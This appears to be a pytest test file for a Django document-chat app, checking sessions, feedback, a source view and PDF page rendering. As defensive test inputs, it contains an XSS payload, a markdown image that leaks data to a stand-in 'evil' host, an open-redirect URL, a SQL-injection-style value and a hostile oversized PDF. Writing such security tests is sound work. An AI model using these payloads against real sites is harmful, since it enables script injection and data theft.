"""Reader pages: sessions, the conversation page, feedback, the source view and PDF page images."""

from __future__ import annotations

import pytest
from django.urls import reverse

from chat.models import ChatSession, Feedback, Query, Response
from tests.factories import make_chunk, make_document

pytestmark = pytest.mark.django_db


def _answer(user, session=None, text="Revenue grew 4% [1].", **fields) -> Response:
    query = Query.objects.create(user=user, session=session, text=fields.pop("question", "How did revenue do?"))
    return Response.objects.create(query=query, text=text, status=fields.pop("status", "completed"), **fields)


# --- Sessions --------------------------------------------------------------------------------------------------------
def test_home_lists_only_own_sessions_labelled_by_first_question(client, reader, outsider, django_assert_num_queries):
    mine = ChatSession.objects.create(user=reader)
    _answer(reader, mine, question="Πόσο αυξήθηκαν τα έσοδα;")
    ChatSession.objects.create(user=reader, title="Budget 2026")
    theirs = ChatSession.objects.create(user=outsider, title="Outsider's secret")
    client.force_login(reader)
    with django_assert_num_queries(3):  # session, user, sessions (first question and activity annotated)
        page = client.get(reverse("chat:home"))
    html = page.content.decode()
    assert page.status_code == 200
    assert "Πόσο αυξήθηκαν τα έσοδα;" in html
    assert "Budget 2026" in html
    assert theirs.title not in html


def test_new_session_is_post_only_and_opens_the_conversation(client, reader):
    client.force_login(reader)
    assert client.get(reverse("chat:session_new")).status_code == 405
    assert not ChatSession.objects.exists()
    page = client.post(reverse("chat:session_new"))
    session = ChatSession.objects.get()
    assert session.user == reader
    assert page.status_code == 302
    assert page.url == reverse("chat:session", args=[session.pk])


def test_pages_require_sign_in(client, reader):
    session = ChatSession.objects.create(user=reader)
    for url in (reverse("chat:home"), reverse("chat:session", args=[session.pk])):
        page = client.get(url)
        assert page.status_code == 302
        assert page.url.startswith(reverse("login"))


def test_conversation_page_shows_history_escaped_with_chips_and_feedback(client, reader):
    session = ChatSession.objects.create(user=reader)
    citation = {"number": 1, "chunk_id": 9, "document_id": 3, "document_title": "Annual report", "location": "p. 2",
                "quote": "grew", "url": "/documents/3/source/?chunk=9"}  # fmt: skip
    response = _answer(reader, session, text='<img src=x onerror="alert(1)"> ![](http://evil/?q=secret)',
                       citations=[citation])  # fmt: skip
    Feedback.objects.create(response=response, user=reader, rating=-1, comment="too short")
    client.force_login(reader)
    html = client.get(reverse("chat:session", args=[session.pk])).content.decode()
    assert (
        '<p>&lt;img src=x onerror="alert(1)"&gt; <span class="blocked">[image not loaded:  http://evil/?q=secret]'
        in html
    )
    assert "<img" not in html
    assert 'href="/documents/3/source/?chunk=9"' in html
    assert "[1] Annual report · p. 2" in html
    assert reverse("chat:feedback", args=[response.pk]) in html
    assert 'value="too short"' in html
    assert f'data-session-id="{session.pk}"' in html
    assert 'id="chat-strings"' in html


def test_foreign_session_page_is_404(client, reader, outsider):
    session = ChatSession.objects.create(user=reader)
    Query.objects.create(user=reader, session=session, text="Πόσο κόστισε η ανακαίνιση; What did the renovation cost?")
    client.force_login(reader)
    own = client.get(reverse("chat:session", args=[session.pk]))
    assert own.status_code == 200 and "Πόσο κόστισε η ανακαίνιση;" in own.content.decode()  # the owner sees it
    client.force_login(outsider)
    for language in ("en", "el"):
        response = client.get(reverse("chat:session", args=[session.pk]), HTTP_ACCEPT_LANGUAGE=language)
        assert response.status_code == 404
        assert "ανακαίνιση" not in response.content.decode() and b"renovation" not in response.content


def test_greek_ui(client, reader):
    client.force_login(reader)
    html = client.get(reverse("chat:home"), HTTP_ACCEPT_LANGUAGE="el").content.decode()
    assert "Νέα συζήτηση" in html
    assert 'lang="el"' in html


# --- Feedback --------------------------------------------------------------------------------------------------------
def test_feedback_json_then_replaced(client, reader):
    response = _answer(reader)
    client.force_login(reader)
    url = reverse("chat:feedback", args=[response.pk])
    first = client.post(url, {"rating": "1", "comment": "  clear  "}, HTTP_ACCEPT="application/json")
    assert first.status_code == 200
    assert first.json() == {"rating": 1, "comment": "clear"}
    client.post(url, {"rating": "-1"}, HTTP_ACCEPT="application/json")
    assert list(Feedback.objects.values_list("user", "rating", "comment")) == [(reader.pk, -1, "")]


def test_feedback_form_post_redirects_back_only_to_this_site(client, reader):
    response = _answer(reader)
    client.force_login(reader)
    url = reverse("chat:feedback", args=[response.pk])
    assert client.post(url, {"rating": "1", "next": "/chat/"}).url == "/chat/"
    assert client.post(url, {"rating": "1", "next": "https://evil.example/"}).url == reverse("chat:home")


def test_feedback_on_someone_elses_answer_or_invalid_writes_nothing(client, reader, outsider):
    response = _answer(reader)
    client.force_login(outsider)
    url = reverse("chat:feedback", args=[response.pk])
    assert client.post(url, {"rating": "1"}, HTTP_ACCEPT="application/json").status_code == 404
    client.force_login(reader)
    assert client.post(url, {"rating": "5"}, HTTP_ACCEPT="application/json").status_code == 400
    assert client.post(url, {"rating": "1", "comment": "x" * 2001}, HTTP_ACCEPT="application/json").status_code == 400
    assert client.get(url).status_code == 405
    assert not Feedback.objects.exists()


def test_librarian_sees_feedback_in_the_admin(client, librarian, reader):
    Feedback.objects.create(response=_answer(reader), user=reader, rating=-1, comment="missed the table")
    client.force_login(librarian)
    page = client.get(reverse("admin:chat_feedback_changelist"))
    assert page.status_code == 200
    assert "missed the table" in page.content.decode()


# --- Source view -----------------------------------------------------------------------------------------------------
@pytest.fixture
def report(finance):
    doc = make_document(title="Annual report", groups=[finance], mime_type="text/markdown")
    for n in range(12):
        make_chunk(doc, n, text=f"Passage {n} <b>bold?</b>", page_start=n // 3 + 1, page_end=n // 3 + 1,
                   heading_path=["Results"])  # fmt: skip
    return doc


def test_source_view_highlights_the_cited_chunk_among_its_neighbours(client, reader, report):
    cited = report.chunks.get(ordinal=6)
    client.force_login(reader)
    page = client.get(reverse("chat:document_source", args=[report.pk]), {"chunk": cited.pk})
    html = page.content.decode()
    assert page.status_code == 200
    assert f'<mark class="passage cited" id="cited" tabindex="-1" data-chunk-id="{cited.pk}">' in html
    assert html.count('id="cited"') == 1
    shown = [c.ordinal for c in report.chunks.all() if f'data-chunk-id="{c.pk}"' in html]
    assert shown == [2, 3, 4, 5, 6, 7, 8, 9, 10]
    assert [h for h in ("p. 1", "p. 2", "p. 3", "p. 4") if f'<h2 class="source-label">{h}</h2>' in html] == [
        "p. 1", "p. 2", "p. 3", "p. 4"
    ]  # fmt: skip
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html
    assert "<img" not in html  # not a PDF: no page image


def test_source_view_is_404_for_foreign_documents_and_chunks(client, reader, outsider, librarian, report, legal):
    cited = report.chunks.first()
    url = reverse("chat:document_source", args=[report.pk])
    client.force_login(outsider)
    assert client.get(url, {"chunk": cited.pk}).status_code == 404
    secret = make_document(title="Legal memo", groups=[legal])
    other = make_chunk(secret, 0, text="privileged")
    client.force_login(reader)
    assert client.get(reverse("chat:document_source", args=[secret.pk]), {"chunk": other.pk}).status_code == 404
    assert client.get(url, {"chunk": other.pk}).status_code == 404  # chunk of another document
    assert client.get(url, {"chunk": "1 OR 1=1"}).status_code == 404
    assert client.get(url).status_code == 200  # no chunk: the beginning
    client.force_login(librarian)
    assert client.get(reverse("chat:document_source", args=[secret.pk]), {"chunk": other.pk}).status_code == 200


def test_pdf_page_image_is_rendered_once_and_permission_checked(client, reader, outsider, finance, corpus, settings):
    pdf = (corpus / "pdf" / "multi_page.pdf").read_bytes()
    doc = make_document(content=pdf, groups=[finance], page_count=5)
    chunk = make_chunk(doc, 0, text="page two text", page_start=2, page_end=2)
    client.force_login(reader)
    source = client.get(reverse("chat:document_source", args=[doc.pk]), {"chunk": chunk.pk}).content.decode()
    image_url = reverse("chat:document_page", args=[doc.pk, 2])
    assert f'src="{image_url}"' in source
    first = client.get(image_url)
    assert first.status_code == 200
    assert first["Content-Type"] == "image/png"
    assert b"".join(first.streaming_content).startswith(b"\x89PNG")
    cached = list((settings.MEDIA_ROOT / "page-images" / str(doc.pk)).glob("*-p2.png"))
    assert len(cached) == 1
    mtime = cached[0].stat().st_mtime_ns
    assert client.get(image_url).status_code == 200
    assert cached[0].stat().st_mtime_ns == mtime  # served from the cache
    assert client.get(reverse("chat:document_page", args=[doc.pk, 6])).status_code == 404
    client.force_login(outsider)
    assert client.get(image_url).status_code == 404


def test_page_images_of_hostile_pdfs_are_bounded_or_refused(client, reader, finance, settings):
    """pypdfium2 renders in-process: a page declaring a huge size is capped, a broken file or a missing page is 404."""
    import io

    import pypdfium2
    from PIL import Image

    from chat.services.sessions import PAGE_IMAGE_MAX_PIXELS

    pdf = pypdfium2.PdfDocument.new()
    pdf.new_page(14400, 14400)  # 200 x 200 inches: 16,000 px a side at 80 DPI
    buffer = io.BytesIO()
    pdf.save(buffer)
    pdf.close()
    huge = make_document(content=buffer.getvalue(), groups=[finance], page_count=None)
    broken = make_document(content=b"%PDF-1.7 not really a PDF", groups=[finance], page_count=None)
    client.force_login(reader)
    image = client.get(reverse("chat:document_page", args=[huge.pk, 1]))
    assert image.status_code == 200
    assert max(Image.open(io.BytesIO(b"".join(image.streaming_content))).size) <= PAGE_IMAGE_MAX_PIXELS
    assert client.get(reverse("chat:document_page", args=[huge.pk, 2])).status_code == 404  # beyond the last page
    assert client.get(reverse("chat:document_page", args=[broken.pk, 1])).status_code == 404
    assert not list((settings.MEDIA_ROOT / "page-images").rglob("*.part"))  # no half-written file left behind
